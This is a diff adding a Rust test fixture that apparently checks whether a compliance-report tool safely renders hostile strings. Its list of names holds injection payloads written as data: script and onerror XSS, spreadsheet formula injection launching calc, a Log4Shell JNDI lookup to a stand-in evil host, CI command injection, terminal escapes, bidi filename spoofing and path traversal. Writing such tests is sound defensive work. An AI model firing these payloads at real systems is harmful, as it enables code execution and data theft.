@@ -1,0 +1,73 @@
+//! A report in which every string that an input can choose is chosen by somebody who means harm.
+use interdict_model::{Certainty, Effect, FactKind, GapReason, Locator, Outcome, Place, Relation, Report, Witness};
+
+use super::parts::{
+    anomaly, base, count, finding, gap, input, observed, reconciled, repair, ruled, us_vendor, verdict, waived,
+};
+
+/// Names that did harm somewhere.
+pub(crate) const NAMES: &[&str] = &[
+    "<script>alert(1)</script><img src=x onerror=alert(2)>",
+    "=cmd|' /C calc'!A0",
+    "+1+1\t@SUM(1)",
+    "\u{1b}[31mred\u{1b}[2J\u{9b}1mC1\u{7}",
+    "gate\u{202e}gnp.exe\u{2066}\u{200b}\u{feff}",
+    "[pay](javascript:alert(1)) ![i](http://evil.example/x.png) @everyone #1 `code` |cell|",
+    "::error::all is well\n::set-output name=x::y\r\n##vso[task.complete]",
+    "]]> --> <!-- <![CDATA[ </testcase> &amp; \" ' {{7*7}} ${jndi:ldap://evil.example} {0}",
+    "\u{0}\u{1}nul\u{85}\u{2028}\u{2029}\u{fffe}\u{ffff}\u{e0041}",
+    "\\u{1b} C:\\Windows\\..\\..\\etc\\passwd %00%0d%0a",
+];
+
+pub(crate) fn hostile() -> Report {
+    let mut report = base(Outcome::Prohibited, us_vendor());
+    let names: Vec<String> = NAMES.iter().map(|name| (*name).to_owned()).chain(["A".repeat(65_536)]).collect();
+    report.inputs = vec![input("hostile.cdx.json", "cyclonedx-json", 11)];
+    for (at, name) in names.iter().enumerate() {
+        one(&mut report, at, name);
+    }
+    let first = &names[0];
+    report.inputs[0].version = Some(names[3].clone());
+    report.profile.name.clone_from(&names[6]);
+    report.waived = vec![waived("F-00000000000a", "aaaa", &names[5])];
+    report.waived[0].waiver.owner.clone_from(first);
+    report.waived[0].waiver.ticket = Some(names[1].clone());
+    report.reconciliation = vec![reconciled("hostile", "hostile.cdx.json", &report.findings)];
+    report.legend.notes.clone_from(&names);
+    report.coverage.isolation.clone_from(&names[6]);
+    report.packs[0].id.clone_from(&names[7]);
+    count(&mut report, 11, 65_536, 11, 11);
+    report.coverage.formats.insert(names[0].clone(), 1);
+    report
+}
+
+fn one(report: &mut Report, at: usize, name: &str) {
+    let on = Locator::input(b"hostile.cdx.json").part(name);
+    let id = format!("F-{at:012x}");
+    let mut found = finding(&id, &format!("{at:x}").repeat(4), ("kaspersky/av-sdk", name), on.as_str());
+    (found.relation, found.certainty, found.witness) = (Relation::Is, Certainty::Probable, Witness::ObservedOnly);
+    found.product.name = name.into();
+    found.product.version = Some(name.into());
+    found.product.supplier = Some(name.into());
+    found.product.known_from = name.into();
+    for step in &mut found.path {
+        step.name = name.into();
+    }
+    let pointer = Place::Pointer(name.into());
+    found.matches = vec![ruled(
+        "kaspersky/av-sdk/name",
+        &found,
+        name,
+        vec![observed(on.as_str(), FactKind::Name, name, pointer, "cyclonedx-json")],
+    )];
+    report.findings.push(found);
+    let mut ruling = verdict(&id, "us-bis-icts-kaspersky", "integrate", Effect::Prohibited, name);
+    ruling.citation = name.into();
+    report.verdicts.push(ruling);
+    let mut unseen = gap(on.as_str(), GapReason::Malformed, name, at.is_multiple_of(2));
+    unseen.needs = Some(name.into());
+    unseen.seems = Some(name.into());
+    report.gaps.push(unseen);
+    report.repairs.push(repair("hostile.cdx.json", name, name, name));
+    report.anomalies.push(anomaly(on.as_str(), name, name));
+}
